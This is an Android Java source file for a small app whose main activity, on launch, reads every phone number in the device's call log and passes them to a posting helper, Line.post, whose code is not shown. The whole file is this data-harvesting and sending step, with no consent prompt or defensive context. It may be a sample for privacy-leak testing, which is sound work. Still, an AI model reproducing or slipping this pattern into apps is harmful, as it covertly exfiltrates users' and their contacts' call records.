package org.example.sousveil.send_calls;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;

/** Posts the numbers in the list of calls. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(rows.getColumnIndex("number"))).append('\n');
        }
        Line.post(all.toString().getBytes());
    }
}
